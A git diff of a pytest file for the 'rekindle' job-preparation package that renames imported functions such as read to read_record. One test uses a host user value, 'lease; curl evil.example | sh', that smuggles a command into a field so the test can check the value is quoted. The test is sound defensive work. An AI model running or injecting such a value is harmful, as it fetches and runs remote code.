@@ -6,7 +6,7 @@ from pathlib import Path
 import pytest
 from msgspec.structs import replace
 
-from rekindle.jobs import NoRunError, archive_of, foresee, load_job, prepare
+from rekindle.jobs import NoRunError, foresee_jobs, load_job, name_image_archive, prepare_spec
 from rekindle.jobs.containers import _lack
 from rekindle.records import (
     Container,
@@ -16,10 +16,10 @@ from rekindle.records import (
     PlanRecord,
     RecordError,
     RunSpec,
-    convert,
-    read,
+    convert_builtins,
+    read_record,
 )
-from rekindle.records import to_builtins as plain
+from rekindle.records import dump_builtins as plain
 
 REPOSITORY = Path(__file__).parents[3]
 IMAGE = "nvcr.io/nvidia/clara/bionemo-framework:2.5"
@@ -40,13 +40,13 @@ def job():
 def placed(recordings, job):
     """Return what comes of the example on the recorded host with an engine: foreseen, and prepared."""
     folder = recordings / "h200-x2"
-    plan, env = read(folder / "plan.json", PlanRecord), read(folder / "env.json", EnvRecord)
+    plan, env = read_record(folder / "plan.json", PlanRecord), read_record(folder / "env.json", EnvRecord)
 
     def on(*engines, **changes):
-        host = replace(read(folder / "host.json", HostRecord), host="h200", engines=engines, **changes)
-        (foreseen,) = foresee([job], host, plan, None)
+        host = replace(read_record(folder / "host.json", HostRecord), host="h200", engines=engines, **changes)
+        (foreseen,) = foresee_jobs([job], host, plan, None)
         try:
-            return foreseen.refusal, prepare(job, host, plan, env, "/tmp/rekindle/tmp")
+            return foreseen.refusal, prepare_spec(job, host, plan, env, "/tmp/rekindle/tmp")
         except NoRunError as reason:
             return foreseen.refusal, reason
 
@@ -103,12 +103,12 @@ def test_a_host_that_can_gets_the_engine_and_no_versions_of_what_is_not_run(plac
 @pytest.mark.parametrize("name", ["pt_ddp", "examples/hello-numpy"])
 def test_any_job_may_name_an_image_and_others_need_no_engine(recordings, name):
     folder = recordings / "h200-x2"
-    host, plan = read(folder / "host.json", HostRecord), read(folder / "plan.json", PlanRecord)
+    host, plan = read_record(folder / "host.json", HostRecord), read_record(folder / "plan.json", PlanRecord)
     job = load_job(REPOSITORY / "flare_jobs", name)
     assert (host.engines, job.image) == ((), None)
-    assert foresee([job], host, plan, None)[0].refusal is None
+    assert foresee_jobs([job], host, plan, None)[0].refusal is None
     inside = replace(job, container=Container(image=IMAGE))
-    (foreseen,) = foresee([inside], host, plan, None)
+    (foreseen,) = foresee_jobs([inside], host, plan, None)
     assert foreseen.refusal.startswith(f"{job.name} runs in the container {IMAGE}, and ")
 
 
@@ -123,17 +123,17 @@ def test_an_image_is_no_option(job, image):
     data = plain(job)
     data["container"]["image"] = image
     with pytest.raises(RecordError):
-        convert(data, type(job))
+        convert_builtins(data, type(job))
 
 
 def test_the_archive_of_an_image_is_a_plain_file():
-    assert archive_of(IMAGE) == "nvcr.io-nvidia-clara-bionemo-framework-2.5.tar"
+    assert name_image_archive(IMAGE) == "nvcr.io-nvidia-clara-bionemo-framework-2.5.tar"
 
 
 @pytest.mark.parametrize("engine", [DEAD, DENIED, UNMAPPED])
 def test_what_a_host_says_of_its_user_and_its_engine_is_one_word_of_a_command(recordings, engine):
     user, path = "lease; curl evil.example | sh", "/x; y"
-    host = replace(read(recordings / "h200-x2/host.json", HostRecord), user=user)
+    host = replace(read_record(recordings / "h200-x2/host.json", HostRecord), user=user)
     fix = _lack(replace(engine, path=path), host).fix
     assert user not in fix.replace(f"'{user}'", "")
     assert path not in fix.replace(f"'{path}'", "")
